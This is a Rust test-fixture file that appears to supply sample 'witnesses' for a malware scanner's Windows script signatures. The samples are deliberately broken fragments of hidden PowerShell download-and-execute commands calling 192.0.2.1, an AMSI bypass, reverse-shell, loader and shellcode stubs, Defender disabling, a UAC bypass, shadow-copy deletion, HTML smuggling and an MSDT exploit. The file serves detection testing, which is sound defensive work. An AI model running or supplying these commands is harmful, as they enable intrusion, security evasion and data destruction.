//! Witnesses of scripts for Windows.

use crate::witness::{Witness, text};

pub(crate) fn witnesses() -> Vec<Witness> {
    vec![
        text(
            "Candor.PowerShell.Downloader.HiddenDownloadString-1",
            "a.bat",
            "powershell -NoP -w hidden -c IEX (New-Object Net.WebClient).Download¬String('http://192.0.2.1/a')\r\n",
        ),
        text(
            "Candor.PowerShell.Downloader.HiddenDownloadFile-1",
            "a.bat",
            "pwsh -w hidden (New-Object Net.WebClient).Download¬File('http://192.0.2.1/a', $env:temp); Start-Process a.exe\r\n",
        ),
        text(
            "Candor.PowerShell.Obfuscated.EncodedHidden-1",
            "a.bat",
            "powershell -w hidden -enc SQB¬FAFgAIAAoAE4A\r\n",
        ),
        text(
            "Candor.PowerShell.Evasion.AmsiInitFailed-1",
            "a.ps1",
            "[Ref].Assembly.GetType('System.Management.Automation.¬AmsiUtils').GetField('amsi¬InitFailed').SetValue($null,$true)\r\n",
        ),
        text(
            "Candor.PowerShell.ReverseShell.TcpClient-1",
            "a.ps1",
            "$c = New-Object System.Net.Sockets.¬TCPClient('192.0.2.1',80);$s = $c.GetStream();\r\n\
             $b = (iex $data 2>¬&1 | Out-String);$p = 'PS ' + (pwd).Path\r\n",
        ),
        text(
            "Candor.PowerShell.Loader.GzipBase64-1",
            "a.ps1",
            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64¬String(\"H4sIAAAA\"));\r\n\
             IEX (New-Object IO.StreamReader(New-Object IO.Compression.¬GzipStream($s))).ReadToEnd()\r\n",
        ),
        text(
            "Candor.Script.Shellcode.MetasploitText-1",
            "a.ps1",
            "[Byte[]]$b = 0xfc,0x48,0x¬83,0xe4,0xf0,0xe8,0xc0\r\n$m = $k::Virtual¬Alloc(0)\r\n$k::CreateThread($m)\r\n",
        ),
        text(
            "Candor.VBScript.Downloader.XmlHttpStream-1",
            "a.vbs",
            "Set h = CreateObject(\"MSXML2.¬XMLHTTP\")\r\nSet s = CreateObject(\"ADODB.¬Stream\")\r\n\
             s.SaveToFile f\r\nSet w = CreateObject(\"WScript.¬Shell\")\r\nf = \"%TEMP%\\a.exe\"\r\n",
        ),
        text(
            "Candor.JScript.Downloader.XmlHttpStream-1",
            "a.js",
            "var h = new ActiveXObject(\"MSXML2.¬XMLHTTP\");\r\nvar s = new ActiveXObject(\"ADODB.¬Stream\");\r\n\
             s.SaveToFile(f);\r\nvar w = new ActiveXObject(\"WScript.¬Shell\");\r\nw.Run(\"%TEMP%\\\\a\");\r\n",
        ),
        text(
            "Candor.HTA.Downloader.HiddenPowershell-1",
            "a.hta",
            "<html><script language='VBScript'>CreateObject(\"WScript¬.Shell\").Run \"powershell -w hidden -f a\"\r\n\
             self.close</script></html>\r\n",
        ),
        text(
            "Candor.SCT.Execution.ScriptletShell-1",
            "a.sct",
            "<?XML version=\"1.0\"?>\r\n<script¬let>\r\n<registration progid=\"a\">\r\n\
             <script language=\"JScript\">new ActiveXObject(\"WScript.¬Shell\").Run(\"a\");</script>\r\n</registration>\r\n",
        ),
        text(
            "Candor.XSL.Execution.StylesheetShell-1",
            "a.xsl",
            "<?xml version='1.0'?>\r\n<stylesheet xmlns:ms=\"urn:schemas-microsoft-com:xslt\">\r\n\
             <ms:script language=\"JScript\">new ActiveXObject(\"WScript.¬Shell\");</ms:x></stylesheet>\r\n",
        ),
        text(
            "Candor.INF.Execution.CmstpScriptlet-1",
            "a.inf",
            "[version]\r\nSignature=$chicago$\r\n[a]\r\n%11%\\scr¬obj.dll,NI,http://192.0.2.1/a.sct\r\n",
        ),
        text(
            "Candor.Batch.Ransom.ShadowCopies-1",
            "a.bat",
            "@echo off\r\nvssadmin delete¬ shadows /all /quiet\r\nwbadmin delete¬ catalog -quiet\r\n\
             bcdedit /set {default} recoveryenabled¬ no\r\n",
        ),
        text(
            "Candor.Batch.Downloader.Certutil-1",
            "a.bat",
            "@echo off\r\ncertutil -url¬cache -split -f http://192.0.2.1/a %TEMP%\\a\r\nstart %WHERE%\r\n",
        ),
        text(
            "Candor.Batch.Dropper.CertificateProgram-1",
            "a.txt",
            "-----BEGIN CERTIFICATE-----¬\r\nTVqQAAMAAAAEAAAA\r\n-----END CERTIFICATE-----\r\n",
        ),
        text(
            "Candor.Script.Evasion.DefenderOff-1",
            "a.ps1",
            "Set-MpPreference -Disable¬RealtimeMonitoring $true\r\nAdd-MpPreference -Exclusion¬Path C:\\\r\nsc stop Win¬Defend\r\n",
        ),
        text(
            "Candor.Script.Elevation.Fodhelper-1",
            "a.bat",
            "reg add HKCU\\Software\\Classes\\ms-settings\\¬shell\\open\\command /v DelegateExecute /f\r\nfodhelper\r\n",
        ),
        text(
            "Candor.Script.Execution.RunHtmlApplication-1",
            "a.bat",
            "rundll32 javascript:\"\\..\\mshtml,RunHTML¬Application \";GetObject(\"script:¬http://192.0.2.1/a\")\r\n",
        ),
        text(
            "Candor.HTML.Smuggling.Program-1",
            "a.html",
            "<html><script>var d = atob('TVqQAA¬MAAAAEAAAA'); var b = new ¬Blob([d]); a.href = URL.createObjectURL(b);</script>",
        ),
        text(
            "Candor.HTML.Exploit.Msdt-1",
            "a.html",
            "<html><script>location.href = \"ms-¬msdt:/id PCWDiagnostic /param IT_¬BrowseForFile=a\";</script>",
        ),
    ]
}

/// Other ways to write the same.
pub(crate) fn variants() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "Candor.PowerShell.Downloader.HiddenDownloadString-1",
            "POWERSHELL.EXE -nop  -WindowStyle  Hidden \"invoke-expression((NEW-OBJECT Net.WebClient).DOWNLOAD¬STRING('http://x'))\"",
        ),
        (
            "Candor.Batch.Ransom.ShadowCopies-1",
            "@ECHO OFF\r\nWMIC shadowcopy¬ delete\r\nWBADMIN DELETE ¬CATALOG\r\nbcdedit /set x RecoveryEnabled ¬No\r\n",
        ),
    ]
}
